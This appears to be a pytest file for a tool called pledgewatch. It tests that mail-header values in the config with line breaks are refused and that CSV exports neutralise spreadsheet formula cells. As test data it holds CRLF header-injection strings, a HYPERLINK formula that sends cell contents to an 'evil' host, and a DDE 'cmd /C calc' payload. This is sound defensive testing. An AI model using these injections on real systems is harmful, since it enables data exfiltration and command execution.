"""Issue 19, item 6: poison values refused where they enter (mail headers in the config) or
neutralised where they leave (CSV exports a spreadsheet opens)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from conftest import run_cli

from pledgewatch.cli.csvcells import spreadsheet_safe
from pledgewatch.config import parse_config
from pledgewatch.errors import ConfigError

INJECTIONS = [
    ("sender", "pledgewatch@example.org\r\nBcc: victim@example.com"),
    ("sender", "pledgewatch@example.org\nX: y"),
    ("sender", "not-an-address"),
    ("sender_name", "pledgewatch\r\nBcc: victim@example.com"),
    ("sender_name", "pw\x00"),
    ("host", "smtp.example.org\r\nRCPT TO:<x@y>"),
]


@pytest.mark.parametrize(("key", "value"), INJECTIONS)
def test_mail_header_values_with_line_breaks_or_no_address_are_refused(key: str, value: str) -> None:
    with pytest.raises(ConfigError, match=rf"email\.{key}"):
        parse_config({"email": {key: value}}, where="t.toml")


@pytest.mark.parametrize("value", ["ann@example.org\r\nBcc: x@y.org", "two words", "", "a@b.org, c@d.org"])
def test_bad_recipients_are_refused(value: str) -> None:
    with pytest.raises(ConfigError, match=r"email\.recipients"):
        parse_config({"email": {"recipients": [value]}}, where="t.toml")


def test_ordinary_addresses_pass() -> None:
    config = parse_config(
        {
            "email": {
                "sender": "pw@example.org",
                "sender_name": "Pledge Watch",
                "recipients": ["Ann <ann@x.org>"],
            }
        },
        where="t.toml",
    )
    assert config.email.recipients == ["Ann <ann@x.org>"]


@pytest.mark.slow
def test_config_check_refuses_a_header_injection_in_one_line(tmp_path: Path) -> None:
    config = tmp_path / "c.toml"
    config.write_text('[email]\nsender_name = "pw\\r\\nBcc: victim@example.com"\n', encoding="utf-8")
    result = run_cli("--config", str(config), "config", "check")
    assert result.returncode != 0
    assert "email.sender_name" in result.stderr and "Traceback" not in result.stderr
    assert len([line for line in result.stderr.splitlines() if line.strip()]) <= 2


@pytest.mark.parametrize(
    "cell", ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
)
def test_formula_cells_are_neutralised(cell: str) -> None:
    safe = spreadsheet_safe(cell)
    assert isinstance(safe, str) and safe.startswith("'") and safe[1:] == cell


@pytest.mark.parametrize("cell", ["-3", "+1.5", "6000000000", "JD.com", "", 12, None])
def test_numbers_and_text_are_kept(cell: object) -> None:
    assert spreadsheet_safe(cell) == cell


@pytest.mark.slow
def test_search_and_pledges_csv_exports_neutralise_a_formula_title(tmp_path: Path) -> None:
    from datetime import UTC, datetime

    from pledgewatch.config import Config
    from pledgewatch.ingest import ingest
    from pledgewatch.pledges.watchlist import Watchlist
    from pledgewatch.records import ArticleRecord
    from pledgewatch.store.db import ensure_schema, make_engine, session_factory

    url = f"sqlite:///{tmp_path / 'a.db'}"
    engine = make_engine(url)
    ensure_schema(engine)
    title = '=HYPERLINK("http://evil.example/?"&A1,"Hubei")'
    record = ArticleRecord(
        url="https://jdcorporateblog.com/formula/",
        source="jd",
        title=title,
        text="JD.com will invest more than RMB 6 billion in Hubei over the next three years.",
        published=datetime(2020, 4, 8, tzinfo=UTC),
    )
    with session_factory(engine)() as session:
        ingest(session, record, Watchlist(Config().watchlist))
    engine.dispose()
    search = run_cli("--db", url, "search", "Hubei", "--format", "csv")
    assert search.returncode == 0, search.stderr
    rows = list(csv.DictReader(io.StringIO(search.stdout)))
    assert rows and rows[0]["title"] == "'" + title
    listing = run_cli("--db", url, "pledges", "list", "--format", "csv")
    assert listing.returncode == 0, listing.stderr
    cells = [cell for row in csv.reader(io.StringIO(listing.stdout)) for cell in row]
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells), cells
